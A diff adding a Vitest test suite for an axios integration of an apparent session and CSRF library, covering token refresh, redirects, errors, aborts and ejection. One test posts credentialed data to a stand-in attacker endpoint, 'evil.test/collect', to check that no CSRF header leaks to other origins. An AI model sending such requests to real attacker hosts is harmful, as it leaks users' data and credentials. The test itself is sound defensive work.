@@ -1,0 +1,198 @@
+import axios, { AxiosError, type AxiosAdapter, type AxiosInstance, type InternalAxiosRequestConfig } from "axios";
+import { expect, expectTypeOf, test, vi } from "vitest";
+import { browser } from "../../test/browser.js";
+import { header, origin } from "../../test/fake-server.js";
+import { SallyportError, type Client, type Unsubscribe } from "../index.js";
+import { memoryTransport } from "../memory.js";
+import { sallyportAxios } from "./axios.js";
+
+/** Somebody who is signed in, and an axios instance of the page's. */
+async function page() {
+  const one = browser();
+  const { client, session } = await one.signedIn();
+  return { ...one, client, session, ...instanceFor(one, client) };
+}
+
+function instanceFor({ fetch }: Pick<ReturnType<typeof browser>, "fetch">, client: Client) {
+  const api = axios.create({ baseURL: `${origin}/api`, env: { fetch: abortable(fetch) } });
+  return { api, eject: sallyportAxios(client, api) };
+}
+
+/** The fake answers in its own time; a browser gives up at once. */
+function abortable(fetch: typeof globalThis.fetch): typeof fetch {
+  return (input, init) => {
+    const request = new Request(input, init);
+    const { signal } = request;
+    const given = new Promise<never>((_, reject) => signal.addEventListener("abort", () => reject(signal.reason as Error)));
+    return Promise.race([fetch(request), given]);
+  };
+}
+
+const failure = (sent: Promise<unknown>) =>
+  sent.then(
+    () => expect.unreachable(),
+    (error: unknown) => error as AxiosError,
+  );
+
+test("a change carries the token, and past its end the access token is renewed and the change repeated with its body", async () => {
+  const { api, server, session } = await page();
+  server.advance(301);
+  const { data, status } = await api.post<object>("/profile", { displayName: "Countess", bio: "" });
+  expect([status, data]).toEqual([200, expect.objectContaining({ displayName: "Countess" })]);
+  expect(server.story).toEqual(["POST /api/profile 401", "POST /auth/refresh 200", "POST /api/profile 200"]);
+  expect(server.seen[0]?.token).toBe(session.csrf.token);
+});
+
+test("ten at once share one refresh", async () => {
+  const { api, server } = await page();
+  server.advance(301);
+  await Promise.all(Array.from({ length: 10 }, () => api.get("/profile")));
+  expect(server.story.filter((line) => line.includes("refresh"))).toEqual(["POST /auth/refresh 200"]);
+});
+
+test("a stale token is replaced and the request repeated", async () => {
+  const { api, server, jar } = await page();
+  const stranger = browser(server);
+  await stranger.signedIn();
+  Object.assign(jar, stranger.jar);
+  expect((await api.post("/profile", { displayName: "Countess", bio: "" })).status).toBe(200);
+});
+
+test("nothing goes along to another origin, and what comes from there is handed over as it is", async () => {
+  const { api, elsewhere } = await page();
+  const { data } = await api.post("https://evil.test/collect", { a: 1 }, { withCredentials: true, adapter: "fetch" });
+  expect(data).toBe("elsewhere");
+  expect(elsewhere.map(({ headers }) => headers.has(header))).toEqual([false]);
+  expect(elsewhere[0]?.credentials).toBe("include");
+});
+
+test("nor over a redirect: the browser is told not to follow it there", async () => {
+  const { api, server, tab, fetch } = await page();
+  await api.post("/echo", "x");
+  expect(server.seen.at(-1)?.request).toMatchObject({ redirect: "error", credentials: "include" });
+  vi.stubGlobal("location", { href: `${origin}/page`, origin });
+  const here = axios.create({ env: { fetch } });
+  sallyportAxios(tab({ baseUrl: "" }), here);
+  await here.post("/api/echo", "x");
+  vi.unstubAllGlobals();
+  expect(server.seen.at(-1)?.request).toMatchObject({ mode: "same-origin", credentials: "same-origin" });
+});
+
+test("what axios would read from the cookie by itself does not overwrite it", async () => {
+  const { api, session } = await page();
+  const seen: InternalAxiosRequestConfig[] = [];
+  const adapter: AxiosAdapter = (config) => (seen.push(config), Promise.resolve({ config, data: "", headers: {}, status: 200, statusText: "" }));
+  await api.post("/echo", "x", { adapter, withXSRFToken: true });
+  expect(seen.map(({ withXSRFToken, headers }) => [withXSRFToken, headers.get(header)])).toEqual([[false, session.csrf.token]]);
+});
+
+test("address, parameters and form keep their meaning, and the answer its request", async () => {
+  const { api, server } = await page();
+  server.advance(301);
+  const form = new FormData();
+  form.set("picture", new Blob(["pixels"]), "me.png");
+  const { data, config } = await api.post<string>("/echo", form, { params: { size: "large", tag: ["a", "b"] } });
+  expect(data).toMatch(/name="picture"; filename="me.png"[^]*pixels/);
+  expect(server.seen.at(-1)?.request.url).toBe(`${origin}/api/echo?size=large&tag%5B%5D=a&tag%5B%5D=b`);
+  expect(config).toMatchObject({ url: "/echo", baseURL: `${origin}/api`, params: { size: "large" } });
+});
+
+test("a stream is sent again, too", async () => {
+  const { api, server } = await page();
+  server.advance(301);
+  const { data } = await api.post<string>("/echo", new Response("of words").body);
+  expect(data).toBe("of words");
+});
+
+test("a refusal is axios's own error, with the answer in it", async () => {
+  const { api } = await page();
+  const error = await failure(api.get("/nothing"));
+  expect(error).toBeInstanceOf(AxiosError);
+  expect(error).toMatchObject({ code: "ERR_BAD_REQUEST", status: 404, response: { status: 404, data: { code: "not_found" } } });
+  expect(error.config?.url).toBe("/nothing");
+});
+
+test("a session that is over is answered with the server's 401, once a refresh was tried", async () => {
+  const { api, server } = await page();
+  server.advance(301);
+  server.faults.set("POST /auth/refresh", Response.json({ code: "refresh_expired" }, { status: 401 }));
+  expect(await failure(api.get("/profile"))).toMatchObject({ response: { status: 401, data: { code: "access_expired" } } });
+});
+
+test("no answer is axios's network error, for a refresh that got none as well", async () => {
+  const { api, server } = await page();
+  server.faults.set("GET /api/profile", "offline");
+  const silence = await failure(api.get("/profile"));
+  expect([silence.code, silence.response]).toEqual(["ERR_NETWORK", undefined]);
+  server.faults.clear();
+  server.advance(301);
+  server.faults.set("POST /auth/refresh", Response.json({ code: "store_unavailable" }, { status: 503 }));
+  const error = await failure(api.get("/profile"));
+  expect(error).toMatchObject({ code: "ERR_NETWORK", cause: { code: "store_unavailable" } });
+  expect(axios.isAxiosError(error) && error.cause).toBeInstanceOf(SallyportError);
+});
+
+test("an abort is a cancellation", async () => {
+  const { api, server } = await page();
+  const leaving = new AbortController();
+  server.delays.set("GET /api/profile", new Promise(() => {}));
+  const error = failure(api.get("/profile", { signal: leaving.signal }));
+  await vi.waitFor(() => expect(server.seen).toHaveLength(1));
+  leaving.abort();
+  expect(axios.isCancel(await error)).toBe(true);
+  expect(axios.isCancel(await failure(api.get("/profile", { signal: leaving.signal })))).toBe(true);
+});
+
+test("progress is told", async () => {
+  const { api } = await page();
+  const told: number[] = [];
+  await api.get("/profile", { onDownloadProgress: ({ loaded }) => told.push(loaded) });
+  expect(told.at(-1)).toBeGreaterThan(0);
+});
+
+test("a chosen adapter is used, and the default one where upload progress is wanted", async () => {
+  const { api, fetch } = await page();
+  const used: string[] = [];
+  const named = (name: string): AxiosAdapter => async (config) => {
+    used.push(name);
+    return axios.getAdapter("fetch", { ...config, env: { fetch } } as InternalAxiosRequestConfig)(config);
+  };
+  await api.post("/echo", "x", { adapter: named("chosen") });
+  api.defaults.adapter = [named("default")];
+  await api.post("/echo", "x", { onUploadProgress: () => undefined });
+  await api.post("/echo", "x");
+  expect(used).toEqual(["chosen", "default"]);
+});
+
+test("an app's own retry of error.config goes through the doors once, not twice over", async () => {
+  const { api, server } = await page();
+  const error = await failure(api.get("/nothing"));
+  server.seen.length = 0;
+  server.faults.set("GET /api/nothing", Response.json({ code: "access_expired" }, { status: 401 }));
+  await failure(api.request(error.config!));
+  expect(server.story).toEqual(["GET /api/nothing 401", "POST /auth/refresh 200", "GET /api/nothing 401"]);
+});
+
+test("with another transport the access token goes along, and never comes back to the app", async () => {
+  const one = browser();
+  const client = one.tab({ transport: memoryTransport() });
+  await client.signIn({ username: "ada", password: "engine" });
+  const { api } = instanceFor(one, client);
+  one.server.advance(301);
+  await api.post("/profile", { displayName: "Countess", bio: "" });
+  expect(one.server.seen.at(-1)?.request.headers.get("Authorization")).toMatch(/^JWT /);
+  const { data } = await api.get<object>(`${origin}/auth/session`);
+  expect(data).toMatchObject({ authenticated: true });
+  expect(data).not.toHaveProperty("accessToken");
+});
+
+test("ejected, the instance is as it was", async () => {
+  const { api, eject, server } = await page();
+  eject();
+  await failure(api.post("/echo", "x", { adapter: "fetch" }));
+  expect(server.seen[0]?.token).toBeNull();
+});
+
+test("any instance will do", () => {
+  expectTypeOf(sallyportAxios).toEqualTypeOf<(client: Client, instance?: AxiosInstance) => Unsubscribe>();
+});
